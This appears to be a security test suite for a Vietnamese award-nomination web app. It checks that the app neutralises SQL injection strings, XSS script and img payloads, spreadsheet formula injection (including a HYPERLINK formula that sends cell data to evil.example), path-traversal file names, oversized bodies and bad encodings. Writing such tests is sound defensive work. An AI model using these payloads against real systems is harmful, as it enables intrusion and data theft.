"""Hostile input: SQL and LIKE metacharacters in filters, scripts in names, formulas in exports,
path tricks in file names, oversized and badly encoded bodies, and the headers pages carry."""
import csv
import io
import os
from urllib.parse import quote_from_bytes

import pytest
from openpyxl import load_workbook

from tests.browser_support import WebUser
from tests.conftest import counts
from tests.integration.test_dossier_lifecycle import open_dossier, upload

SQL = ["' OR 1=1 --", "%", "_", "\\", "'; DROP TABLE nominations; --", "\" OR \"\"=\"", "1 UNION SELECT 1"]
LIST_FILTERS = {
    "/nominations": ("state", "plan_id", "award_type", "overdue", "cursor", "limit"),
    "/inbox": ("state", "plan_id", "award_type", "overdue", "cursor", "limit"),
    "/audit": ("q", "actor", "action", "state", "org_id", "nomination_id", "since", "until", "cursor", "format"),
    "/dossiers": ("state", "direction", "plan_id", "cursor", "limit"),
}
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1", "-1", "@SUM(A1:A9)"]


def nominate(api, plan, name="Nguyễn Văn An", title="Phóng viên", achievements="Hoàn thành xuất sắc nhiệm vụ.",
             award="bang_khen_bo"):
    return api.post("/nominations", json={"plan_id": plan, "award_type": award, "achievements": achievements,
                                          "nominee": {"kind": "individual", "name": name, "title": title}})


def returned_with(login, plan, name, reason) -> int:
    """A VTC nomination the unit head sent back to the officer with `reason`."""
    n = nominate(login("vtc.canbo"), plan, name=name).get_json()
    assert login("vtc.canbo").post(f"/nominations/{n['id']}/submit").status_code == 200
    assert login("vtc.hoidong").post(f"/nominations/{n['id']}/vote", json={
        "votes": {"members": 5, "present": 5, "yes": 5, "no": 0}}).status_code == 200
    r = login("vtc.thutruong").post(f"/nominations/{n['id']}/return", json={"reason": reason})
    assert r.status_code == 200, r.get_json()
    return n["id"]


# --- SQL and LIKE metacharacters -----------------------------------------------------------

@pytest.mark.parametrize("value", SQL)
def test_metacharacters_in_any_filter_are_a_200_or_a_422_never_a_500(login, open_plan, value):
    api = login("vtc.canbo")
    mine = nominate(api, open_plan).get_json()["id"]
    for path, names in LIST_FILTERS.items():
        for name in names:
            r = api.get(path, query_string={name: value})
            assert r.status_code in (200, 422), (path, name, value, r.status_code)
            body = r.get_json()
            if r.status_code == 422:
                assert body["error"]["code"] == "invalid_input" and body["error"]["field"], (path, name)
            elif path in ("/nominations", "/inbox") and name in ("state", "award_type"):
                assert body["items"] == [], (path, name, value)  # a filter never widens what is shown
    assert api.get(f"/nominations/{mine}").status_code == 200  # and nothing was dropped


def test_like_wildcards_in_the_audit_search_match_literally(login, open_plan):
    percent = returned_with(login, open_plan, "Người một", "Thiếu 100% minh chứng")
    returned_with(login, open_plan, "Người hai", "Thiếu 1000 minh chứng")  # must not match "100%"
    under = returned_with(login, open_plan, "Người ba", "Xem tep_dinh_kem")
    slash = returned_with(login, open_plan, "Người bốn", "Đường dẫn C:\\ho_so")
    api = login("vtc.canbo")

    def found(q):
        return {e["nomination_id"] for e in api.get("/audit", query_string={"q": q}).get_json()["items"]}
    assert found("100%") == {percent}
    assert found("0%") == {percent}
    assert found("p_d") == {under}          # "_" is not "any character" ("tep_dinh" has it; nothing else)
    assert found("_") == {under, slash}
    assert found("C:\\ho") == {slash}
    assert found("%") == {percent}
    assert found("' OR 1=1 --") == set()


# --- scripts shown back --------------------------------------------------------------------

def test_scripts_in_names_are_stored_as_text_and_escaped_in_the_pages(login, open_plan, app):
    api = login("vtc.canbo")
    r = nominate(api, open_plan, name=f"Nguyễn {SCRIPT}", title=IMG, achievements=f"Thành tích {SCRIPT} {IMG}")
    assert r.status_code == 201, r.get_json()
    n = r.get_json()
    got = api.get(f"/nominations/{n['id']}").get_json()
    assert got["nominee"] == {"kind": "individual", "name": f"Nguyễn {SCRIPT}", "title": IMG,
                              "person_id": got["nominee"]["person_id"]}
    r = login("vtc.canbo").post(f"/nominations/{n['id']}/withdraw", json={"version": 999, "reason": SCRIPT})
    browser = WebUser(app, "vtc.canbo")
    for path in (f"/nominations/{n['id']}", "/inbox", "/nominations"):
        page = browser.get(path).get_data(as_text=True)
        assert SCRIPT not in page and "<img src=x" not in page, path
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, path


def test_a_return_reason_with_a_script_is_escaped_on_the_page_and_in_the_timeline(login, open_plan, app):
    nid = returned_with(login, open_plan, "Lê Thị Hoa", f"Bổ sung {SCRIPT}{IMG}")
    page = WebUser(app, "vtc.canbo").get(f"/nominations/{nid}").get_data(as_text=True)
    assert SCRIPT not in page and "<img src=x" not in page
    assert "&lt;script&gt;" in page
    audit_page = WebUser(app, "kiemtra").get("/audit").get_data(as_text=True)
    assert SCRIPT not in audit_page and "<img src=x" not in audit_page


# --- formulas in exports -------------------------------------------------------------------

def test_formulas_in_reasons_are_quoted_in_the_audit_csv(login, open_plan):
    for i, formula in enumerate(FORMULAS):
        returned_with(login, open_plan, f"Người {i}", formula)
    r = login("admin").get("/api/v1/audit".removeprefix("/api/v1") + "?format=csv")
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [c for row in rows[1:] for c in row]
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
        assert formula not in cells, formula
    assert all(not c or c[0] not in "=+-@" for c in cells), [c for c in cells if c and c[0] in "=+-@"][:5]


def test_formulas_in_nominee_names_do_not_run_in_the_exported_list(login, open_plan):
    officer = login("vtc.canbo")
    d = open_dossier(officer, open_plan)
    for i, formula in enumerate(FORMULAS):
        r = officer.post(f"/dossiers/{d['id']}/nominations", json={
            "award_type": "bang_khen_bo", "achievements": formula,
            "nominee": {"kind": "individual", "name": f"{formula}{' ' * i}x{i}", "title": formula}})
        assert r.status_code == 201, (formula, r.get_json())
    r = officer.get(f"/dossiers/{d['id']}/export.xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.data)).active
    texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in texts if c.data_type == "f"], "a cell is a formula"
    # XLSX's own guard: the quote prefix keeps the text a text when someone re-edits the cell
    risky = [c for c in texts if c.value[0] in "=+-@"]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky), [c.value for c in risky]


# --- file names ----------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["../../etc/passwd", "../../etc/passwd.pdf", "..\\..\\boot.ini",
                                  "..\\..\\boot.ini.pdf", "hoso\x00.pdf", "a.pdf\x00.exe", "/etc/cron.d/x.pdf",
                                  "....//....//x.pdf", "%2e%2e%2fx.pdf"])
def test_path_tricks_in_attachment_names_are_stored_under_a_safe_name_or_refused(login, open_plan, app, name,
                                                                                 tmp_path):
    officer = login("vtc.canbo")
    d = open_dossier(officer, open_plan)
    before = set(os.listdir(app.instance_path)) if os.path.isdir(app.instance_path) else set()
    r = upload(officer, f"/dossiers/{d['id']}/attachments", b"%PDF-1.7\n", filename=name, doc_type="to_trinh")
    assert r.status_code in (201, 422), (name, r.status_code)
    if r.status_code == 201:
        stored = r.get_json()["filename"]
        assert not {"/", "\\", "\x00"} & set(stored) and ".." not in stored.strip("."), stored
        assert stored.endswith(".pdf")
        listed = officer.get(f"/dossiers/{d['id']}/attachments").get_json()["items"]
        assert [a["filename"] for a in listed] == [stored]
    else:
        assert r.get_json()["error"]["field"] == "file"
    after = set(os.listdir(app.instance_path)) if os.path.isdir(app.instance_path) else set()
    assert after == before
    assert not any("passwd" in f or "boot" in f for f in os.listdir(tmp_path))


# --- sizes and encodings -------------------------------------------------------------------

def test_a_body_over_16_mb_is_refused_with_413_in_the_json_error_format(login, db):
    api = login("vtc.canbo")
    before = counts(db)
    big = b'{"achievements": "' + b"a" * (17 * 1024 * 1024) + b'"}'
    r = api.client.post("/api/v1/nominations", data=big, headers={**api.headers, "Content-Type": "application/json"})
    assert r.status_code == 413
    assert r.get_json()["error"]["code"] == "too_large" and r.get_json()["error"]["message"]
    r = upload(api, "/dossiers/1/attachments", b"0" * (17 * 1024 * 1024), filename="lon.pdf", doc_type="to_trinh")
    assert r.status_code == 413 and r.get_json()["error"]["code"] == "too_large"
    assert counts(db) == before


@pytest.mark.parametrize("raw", [b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"Nguy\xe1\xbb"])
def test_invalid_utf8_anywhere_is_a_422_never_a_500(login, raw):
    api = login("vtc.canbo")
    r = api.client.post("/api/v1/nominations", data=b'{"achievements": "' + raw + b'"}',
                        headers={**api.headers, "Content-Type": "application/json"})
    assert r.status_code == 422 and r.get_json()["error"]["field"] == "body"
    for path in ("/api/v1/nominations?award_type=", "/api/v1/audit?q=", "/api/v1/deadlines/parse?text="):
        r = api.client.get(path + quote_from_bytes(raw), headers=api.headers)  # as a browser sends it
        assert r.status_code in (200, 422), (path, raw, r.status_code)


def test_vietnamese_typed_with_combining_marks_is_stored_nfc_everywhere(login, open_plan):
    nfd_name, nfc_name = "Nguye\u0302\u0303n Thi\u0323 Ha\u0300", "Nguyễn Thị Hà"
    nfd_title, nfc_title = "Bie\u0302n ta\u0323\u0302p vie\u0302n", "Biên tập viên"
    api = login("vtc.canbo")
    n = nominate(api, open_plan, name=nfd_name, title=nfd_title, achievements="Sa\u0301ng kie\u0302\u0301n").get_json()
    assert (n["nominee"]["name"], n["nominee"]["title"]) == (nfc_name, nfc_title)
    r = api.patch(f"/nominations/{n['id']}", json={"version": n["version"], "achievements": "Thành ti\u0301ch"})
    assert r.get_json()["achievements"] == "Thành tích"
    # the same person typed the other way is the same person
    assert nominate(api, open_plan, name=nfc_name).status_code == 409
    nid = returned_with(login, open_plan, "Đào Văn Bình", "Thie\u0302\u0301u chư\u0301ng tư\u0300")
    assert [e["nomination_id"] for e in api.get("/audit", query_string={"q": "Thiếu chứng từ"}).get_json()["items"]] == [nid]


# --- security headers ----------------------------------------------------------------------

def _frame_denied(h) -> bool:
    return h.get("X-Frame-Options") == "DENY" or "frame-ancestors 'none'" in h.get("Content-Security-Policy", "")


def test_every_page_sends_csp_without_unsafe_inline_no_framing_and_nosniff(login, open_plan, app):
    nid = nominate(login("vtc.canbo"), open_plan).get_json()["id"]
    pages = {"vtc.canbo": ["/inbox", f"/nominations/{nid}", "/plans", "/audit", "/dashboard", "/nominations"],
             "admin": ["/admin"], None: ["/login"]}
    for username, paths in pages.items():
        browser = WebUser(app, username)
        for path in paths + ["/khong-co-trang-nay"]:
            r = browser.get(path)
            assert r.mimetype == "text/html", (path, r.status_code)
            csp = r.headers.get("Content-Security-Policy", "")
            assert csp and "unsafe-inline" not in csp, (path, csp)
            assert _frame_denied(r.headers), path
            assert r.headers.get("X-Content-Type-Options") == "nosniff", path


def test_api_answers_are_not_sniffed_or_framed(login, open_plan):
    api = login("vtc.canbo")
    nid = nominate(api, open_plan).get_json()["id"]
    for r in (api.get("/me"), api.get(f"/nominations/{nid}"), api.get("/nominations/999999"),
              api.get("/audit?format=csv"), api.get(f"/nominations/{nid}/diagram"), api.client.get("/healthz")):
        assert r.headers.get("X-Content-Type-Options") == "nosniff", r.request.path
        assert _frame_denied(r.headers), r.request.path
